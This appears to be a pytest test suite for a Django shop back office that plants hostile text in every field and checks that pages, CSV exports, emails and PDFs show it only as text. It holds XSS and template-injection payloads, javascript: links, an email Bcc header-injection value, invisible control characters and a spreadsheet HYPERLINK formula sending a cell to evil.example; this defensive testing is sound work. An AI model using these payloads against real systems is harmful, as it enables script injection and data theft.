"""What somebody wrote is only ever text, wherever it is shown: markup, scripts and formulas in every text that
buyers, programs and people give, and every page, mail and file that shows them.

Seen to fail with the name of a product marked as safe in one template."""

import csv
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Browser

from callers import Caller, Provider, an_order, refused
from catalog.alerts import Condition, Kind, Severity, settle
from catalog.audit import record
from catalog.digest import send_digests
from catalog.models import ApiKey, Business, Membership, Product
from catalog.services import make_api_key
from customers.models import Customer
from factories import ACTOR, order_in, product
from orders.models import Discrepancy, Order, PaymentNotice, PaymentSource, WebhookDelivery, WebhookEndpoint
from orders.payment_notices import CAPTURED, FAILED
from orders.tests.browser import signed_in as browsing
from orders.tests.staff import read, signed_in
from orders.tests.test_documents import pages_of, printed
from orders.tests.test_rights import FILES, STAFF, address_of, lists, one_of, pages
from orders.tests.test_staff_owners import as_they_are
from orders.webhooks import open_endpoint
from orders_project.clock import database_now
from orders_project.csv_file import FORMULA, csv_file

# Closes an attribute and a tag, and whatever string of an expression it may stand in: the theme evaluates some.
MARKUP = "\"'><b data-planted>'+(window.planted=1)+'"
MORE = (
    f'{MARKUP}"+(window.planted=1)+"`${{window.planted=1}}`{{{{ 7 * 7 }}}}{{% debug %}}</textarea></title>'
    "<script>window.planted=1</script><img src=x onerror=window.planted=1><svg/onload=window.planted=1>"
)

SOURCES, NOTICES, WEBHOOKS = "/staff/payment-sources/", "/staff/payment-notices/", "/staff/webhooks/"


def plant(shop: Business, short: str, long: str) -> dict[str, Any]:
    """A text in everything of a shop that has one, by the doors that they come in by."""
    now = database_now()
    mug = product(shop, f"{short}1"[:60], name=long[:200], description=long)
    Business.objects.filter(id=shop.id).update(name=short)
    person = User.objects.create_user(f"{short[:90]} {shop.slug}", "eve@example.com", is_staff=True)
    place = Membership.objects.create(business=shop, user=person, role="packer", accepted_at=now)
    key = make_api_key(business=shop, name=short[:60], scope=ApiKey.Scope.WRITE, throttled=False)
    url = f"https://shop.example/?q={short.replace(' ', '/')}"
    open_endpoint(business_id=shop.id, url=url, actor=ACTOR, now=now)
    sold = Caller(key=key[1])
    body = an_order(
        items=[{"product": str(mug.id), "quantity": 1}],
        customer={"name": long[:200], "external_id": short, "phone": "+447700900123"},
        shipping_address=dict.fromkeys(("name", "line1", "line2", "city", "region"), short)
        | {"phone": short[:40]},
        note=long,
        external_id=short,
    )
    placed = sold.post("/orders", body)
    assert placed.status_code == 201, placed.json()
    order = Order.objects.get(id=placed.json()["id"])
    paid = {"provider": short[:60], "reference": short, "amount": str(order.total)}
    shipped = {"carrier": short[:60], "tracking_number": short, "tracking_url": "https://x.example/?q=%22'"}
    failed = {"status": "failed", "provider": short[:60], "reason": short}
    adjusted = {"delta": 5, "reason": long[:200]}
    for answer in (
        sold.patch(f"/orders/{order.id}/payment", failed),
        sold.patch(f"/orders/{order.id}/payment", paid),
        sold.patch(f"/orders/{order.id}/status", {"status": "processing"}),
        sold.patch(f"/orders/{order.id}/shipping", shipped),
        sold.post(f"/products/{mug.id}/stock-adjustments", adjusted),
        sold.post("/orders", {**body, "external_id": None, "items": [{"product": str(mug.id), "quantity": 9}]}),
    ):
        assert answer.status_code in (200, 201), answer.json()
    last = Order.objects.filter(business=shop).latest("created_at")
    assert (
        sold.patch(f"/orders/{last.id}/status", {"status": "cancelled", "reason": long[:200]}).status_code == 200
    )
    waiting = {**body, "external_id": f"{short}2"[:120], "note": f"{long} 2"}
    assert sold.post("/orders", waiting).status_code == 201
    provider = Provider(shop, short[:60])
    elsewhere = {"channel": "whatsapp", "external_id": long[:120]}
    for answer in (
        provider.tells(CAPTURED, elsewhere, reference=long[:120], amount="1.00", currency="GBP"),
        provider.tells(FAILED, {"number": short[:20]}, reference=short, reason=long[:200]),
        provider.sends({"type": short[:60], "data": {"order": long}}),
    ):
        assert answer.status_code in (200, 202), answer.json()
    # What another program answers, or the lack of an answer, is told in words of others, too.
    WebhookDelivery.objects.filter(business=shop).update(tries=2, error=long[:200])
    Customer.objects.filter(business=shop).update(note=long)
    condition = Condition(Kind.LOW_STOCK, Severity.CRITICAL, long[:300], subject=str(mug.id))
    settle(business_id=shop.id, kinds=[Kind.LOW_STOCK], conditions=[condition], now=now)
    finding = Discrepancy.objects.create(
        business=shop, invariant="I6", subject=str(order.id), found=long, found_at=now, seen_at=now
    )
    record(business_id=shop.id, actor=ACTOR, now=now, action="changed", subject=mug, changes={short: [long, long]})
    return {
        "order_id": order.id,
        "product_id": mug.id,
        "customer_id": order.customer_id,
        "member_id": place.id,
        "key_id": key[0].id,
        "finding_id": finding.id,
    }


def addresses(shop: Business, things: dict[str, Any]) -> Iterator[str]:
    """The pages that show something of a shop."""
    yield "/admin/"
    yield from (reverse("staff:order", args=[order.id]) for order in Order.objects.filter(business=shop))
    for name, keys in pages():
        if "GET" in STAFF[name] and things.keys() >= set(keys):
            yield reverse(f"staff:{name}", kwargs={key: things[key] for key in keys})
    for model in lists():
        yield address_of(model, "changelist")
        yield address_of(model, "change", one_of(model, shop).pk)
    yield from (f"{NOTICES}?state={state}" for state in ("waiting", "all"))
    # What is asked for stands on the page again.
    for address in ("/admin/orders/order/", "/admin/customers/customer/", "/admin/catalog/product/"):
        yield f"{address}?q=%22%27%3E%3Cb%20data-planted%3E"
    yield "/staff/alerts/?state=%22%27%3E%3Cb%20data-planted%3E"
    yield "/admin/orders/order/?status__exact=%22%27%3E%3Cb%20data-planted%3E"
    yield "/staff/orders/new/products/?q=window.planted"


class Injected(HTMLParser):
    """What of a page was not written by us: elements and attributes of the planted texts, scripts in the page,
    links that run something, and texts of others in attributes that the theme evaluates."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[Any] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            is_evaluated = name.startswith(("x-", "@", ":", "on"))
            if name == "data-planted" or (is_evaluated and "planted" in (value or "")):
                self.found.append((tag, name, value))
            if name in {"href", "src", "action"} and (value or "").strip().lower().startswith(
                ("javascript:", "data:t")
            ):
                self.found.append((tag, name, value))
        given = dict(attrs)
        if tag == "script" and not given.get("src") and given.get("type") != "application/json":
            self.found.append((tag, attrs))


@pytest.mark.slow
@pytest.mark.usefixtures("db")
def test_pages_show_it_as_text(shop: Business) -> None:
    things = plant(shop, MARKUP, MORE)
    client = signed_in(shop)
    found, shown = {}, set()
    for address in addresses(shop, things):
        response = client.get(address)
        if response.headers.get("Content-Type", "").startswith("text/html"):
            page = response.content.decode()
            if "data-planted" in page:
                shown.add(address)
            if injected := Injected(page).found:
                found[address] = injected
    assert found == {}
    assert len(shown) > 28
    assert shown >= {SOURCES, f"{NOTICES}?state=waiting", f"{NOTICES}?state=all", WEBHOOKS}


# Where each of the texts is seen, and each of the theme's parts that evaluate something.
SEEN = (
    *("/admin/", "/staff/orders/{order_id}/", "/staff/products/{product_id}/", "/staff/customers/{customer_id}/"),
    *("/admin/orders/order/?q=window.planted", "/admin/customers/customer/", "/admin/catalog/product/"),
    *("/admin/catalog/auditentry/", "/admin/catalog/product/{product_id}/change/", "/staff/orders/new/"),
    *("/staff/alerts/", "/staff/findings/", "/staff/people/", "/staff/keys/", "/staff/settings/"),
    *(SOURCES, f"{NOTICES}?state=all", WEBHOOKS),
)


@pytest.mark.slow
@pytest.mark.usefixtures("committed")
def test_browser_runs_none_of_it(chromium: Browser, server: str, shop: Business) -> None:
    """Under the policy of the pages a script that is let in would be complained of, which fails the test; what the
    theme evaluates it would not complain of, and leaves a mark."""
    things = plant(shop, MARKUP, MORE)
    owner = User.objects.create_user(f"owner-{shop.slug}", is_staff=True)
    Membership.objects.create(business=shop, user=owner, role=Membership.Role.OWNER)
    ran = []
    with browsing(chromium, server, owner, may_miss="404 (Not Found)") as context:
        page = context.new_page()
        page.on("dialog", lambda dialog: ran.append(dialog.message))
        for address in SEEN:
            page.goto(address.format(**things))
            if page.evaluate("'planted' in window || document.querySelector('[data-planted]') !== null"):
                ran.append(address)
    assert ran == []


@pytest.mark.usefixtures("db")
@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "//x.example", "https://", "vbscript:x"]
)
def test_link_to_a_parcel_leads_to_a_page(shop: Business, address: str) -> None:
    product(shop)
    order = order_in(shop, "processing")
    shipped = {"carrier": "DPD", "tracking_number": "1", "tracking_url": address}
    refused(Caller(shop).patch(f"/orders/{order.id}/shipping", shipped), 422, "invalid_request")
    client = signed_in(shop)
    assert client.post(f"/staff/orders/{order.id}/ship/", {**shipped, "version": order.version}).status_code == 200
    order.refresh_from_db()
    assert order.status == "processing"


@pytest.mark.usefixtures("db")
@pytest.mark.parametrize("kind", ["catalog_product", "customers_customer"])
def test_file_is_shown_as_text(shop: Business, kind: str) -> None:
    """What it says is shown before it is done, and so is what is wrong with it."""
    client = signed_in(shop)
    header = next(iter(file_of(client.get(reverse(f"admin:{kind}_template")))))
    text = io.StringIO()
    csv.writer(text).writerows([header, [MARKUP] * len(header), [MORE] * len(header), ["x", MORE[:100], "1"]])
    file = SimpleUploadedFile(f"{MARKUP}.csv", text.getvalue().encode(), "text/csv")
    page = read(client.post(reverse(f"admin:{kind}_import"), {"upload": file}))
    assert "data-planted" in page
    assert Injected(page).found == []


@pytest.mark.usefixtures("db")
def test_mail_shows_it_as_text_under_a_subject_of_one_line(shop: Business) -> None:
    signed_in(shop, email="ada@example.com")
    Business.objects.filter(id=shop.id).update(name=f"{MARKUP}\r\nBcc: eve@example.com")
    alert = Condition(Kind.LOW_STOCK, Severity.CRITICAL, f"{MORE[:200]}\r\nBcc: eve@example.com", subject="x")
    settle(business_id=shop.id, kinds=[Kind.LOW_STOCK], conditions=[alert], now=database_now())
    send_digests(now=database_now())
    (sent,) = [sent for sent in mail.outbox if sent.to == ["ada@example.com"]]
    html = sent.alternatives[0][0]
    assert "data-planted" in html
    assert Injected(html).found == []
    assert "\n" not in sent.subject + sent.from_email
    assert sent.message()["Bcc"] is None


# What a PDF does with who opens it.
DOING = re.compile(rb"/(JavaScript|JS|URI|Launch|GoToR|SubmitForm|ImportData|EmbeddedFiles?|AA)\b")


@pytest.mark.usefixtures("db")
@pytest.mark.parametrize("kind", ["invoice", "packing_slip"])
def test_paper_prints_it_as_text_and_does_nothing(shop: Business, kind: str) -> None:
    plant(shop, MARKUP, MORE)
    client = signed_in(shop)
    pdf = printed(client, kind, *Order.objects.filter(business=shop))
    said = "".join("".join(pages_of(pdf)).split())
    for text in (MARKUP, MORE[:200]):
        assert "".join(text.split()) in said
    assert DOING.findall(re.sub(rb"stream\r?\n.*?endstream", b"", pdf, flags=re.DOTALL)) == []


# --- What nobody can see ------------------------------------------------------------------------


UNSEEN = ("\0", "\x1b[31m", "\x85", "\u200b", "\u202e")


@pytest.mark.usefixtures("db")
@pytest.mark.parametrize(
    ("address", "sent"),
    [
        ("/staff/keys/", {"name": "Till{}1", "scope": "read"}),
        (SOURCES, {"name": "stri{}pe"}),
        (WEBHOOKS, {"url": "https://shop.example/{}x"}),
        ("/admin/catalog/product/add/", {"sku": "MUG{}1", "name": "Mug", "price": "1", "opening_stock": "0"}),
        ("/admin/catalog/product/add/", {"sku": "MUG", "name": "M{}ug", "price": "1", "opening_stock": "0"}),
        ("/staff/settings/", {"name": "Har{}bour"}),
    ],
)
def test_character_that_nobody_can_see_is_refused(shop: Business, address: str, sent: dict[str, str]) -> None:
    """It would hide what a text says, or turn it around, where another person or a terminal shows it."""
    client = signed_in(shop)
    for unseen in UNSEEN:
        typed = {name: value.format(unseen) for name, value in sent.items()}
        assert 'class="errorlist' in read(client.post(address, {**as_they_are(shop), **typed}))
    for model in (ApiKey, PaymentSource, WebhookEndpoint, Product):
        assert not model._default_manager.filter(business=shop).exists()
    assert Business.objects.get(id=shop.id).name == shop.name


@pytest.mark.usefixtures("db")
def test_provider_that_tells_what_nobody_can_see_is_refused(shop: Business) -> None:
    provider = Provider(shop)
    for unseen in UNSEEN:
        refused(provider.tells(CAPTURED, {"number": "1"}, reference=f"pi{unseen}1"), 422, "invalid_request")
        refused(provider.sends({"type": f"ping{unseen}", "data": {}}), 422, "invalid_request")
    assert not PaymentNotice.objects.filter(business=shop).exists()


# --- Spreadsheets ------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.usefixtures("db")
def test_no_cell_of_any_file_is_a_formula(shop: Business) -> None:
    formula = '=HYPERLINK("https://evil.example/"&A1)'
    things = plant(shop, formula, formula)
    client = signed_in(shop)
    files = {name: file_of(response) for name, response in files_of(client, shop, things)}
    assert len(files) > 12
    found = [
        (name, cell)
        for name, rows in files.items()
        for row in rows
        for cell in row
        if cell.startswith(FORMULA) and not is_number(cell)
    ]
    assert found == []
    assert any(formula in cell for rows in files.values() for row in rows for cell in row)


@pytest.mark.parametrize("begins", FORMULA)
def test_cell_that_begins_like_a_formula_is_marked_as_text(begins: str) -> None:
    _, row = file_of(csv_file("x", ["a", "b", "c"], [[f"{begins}1", 5, Decimal(-1)]]))
    assert row == [f"'{begins}1", "5", "-1"]


def files_of(client: Client, shop: Business, things: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """Every file that the back office gives out."""
    for model in lists():
        for file in getattr(admin.site._registry[model], "exports", ()):
            yield f"{model.__name__} {file}", client.get(address_of(model, "export", file))
    for name, keys in pages():
        if name in FILES and things.keys() >= set(keys):
            address = reverse(f"staff:{name}", kwargs={key: things[key] for key in keys})
            yield name, client.get(address, {"format": "csv"})
    chosen = [str(order.id) for order in Order.objects.filter(business=shop)]
    for action in ("export_orders", "export_lines"):
        sent = {"action": action, "_selected_action": chosen}
        yield action, client.post(address_of(Order, "changelist"), sent)


def file_of(response: Any) -> list[list[str]]:
    assert response.headers["Content-Type"].startswith("text/csv"), response.status_code
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode().lstrip("\ufeff"))))


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "", 1).isdigit()
